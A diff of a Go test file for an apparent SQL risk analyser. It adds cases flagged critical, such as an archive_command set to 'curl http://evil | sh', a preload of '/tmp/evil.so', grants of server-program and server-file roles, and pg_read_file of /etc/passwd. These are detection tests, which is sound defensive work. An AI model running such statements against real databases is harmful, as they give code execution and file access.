@@ -27,6 +27,7 @@ func runCases(t *testing.T, cases []riskCase) {
 	t.Helper()
 	a := New()
 	for _, tc := range cases {
+		writeSeed(t, tc.sql)
 		t.Run(tc.name, func(t *testing.T) {
 			c := a.Text(tc.sql)
 			if c.Risk != tc.risk {
@@ -118,7 +119,7 @@ func TestPrivilege(t *testing.T) {
 	runCases(t, []riskCase{
 		{"grant", "GRANT ALL ON users TO bob", high, rule.PrivilegeGrant},
 		{"revoke", "REVOKE SELECT ON ALL TABLES IN SCHEMA public FROM app", high, rule.PrivilegeGrant},
-		{"grant role", "GRANT pg_read_server_files TO app", high, rule.PrivilegeGrant},
+		{"grant role", "GRANT admin TO app", high, rule.PrivilegeGrant},
 		{"default privileges", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public", high, rule.PrivilegeGrant},
 		{"create role", "CREATE ROLE admin SUPERUSER LOGIN", high, rule.PrivilegeRole},
 		{"create user", "create user x with password 'p'", high, rule.PrivilegeRole},
@@ -201,6 +202,12 @@ func TestReachBeyond(t *testing.T) {
 		{"grant execute on it", "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO public", critical, rule.ReachFile},
 		{"look-alike in another schema", "SELECT evil.pg_read_file('x')", critical, rule.ReachFile},
 		{"http extension", "SELECT http_get('http://evil/')", critical, rule.ReachNetwork},
+		{"grant program role", "GRANT pg_execute_server_program TO app", critical, rule.ReachProgram},
+		{"grant file role", "GRANT pg_monitor, pg_write_server_files TO app", critical, rule.ReachFile},
+		{"archive_command", "ALTER SYSTEM SET archive_command = 'curl http://evil | sh'", critical, rule.ReachProgram},
+		{"preload library per role", "ALTER ROLE app SET session_preload_libraries = '/tmp/evil.so'", critical, rule.ReachPlugin},
+		{"log directory", "ALTER SYSTEM SET log_directory = '/var/www'", critical, rule.ReachFile},
+		{"set_config of a command", "SELECT set_config('archive_command', 'id', false)", critical, rule.ReachProgram},
 		{"nested dynamic sql", "SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, false, '')", critical, rule.ReachFile},
 		{"EXECUTE of a literal in DO", "DO $$ BEGIN EXECUTE 'COPY t TO PROGRAM ''id'''; END $$", critical, rule.ReachProgram},
 		{"standard_conforming_strings off reading", `SELECT 'x\'' ; COPY t TO PROGRAM 'id'; -- '`, critical, rule.ReachProgram},
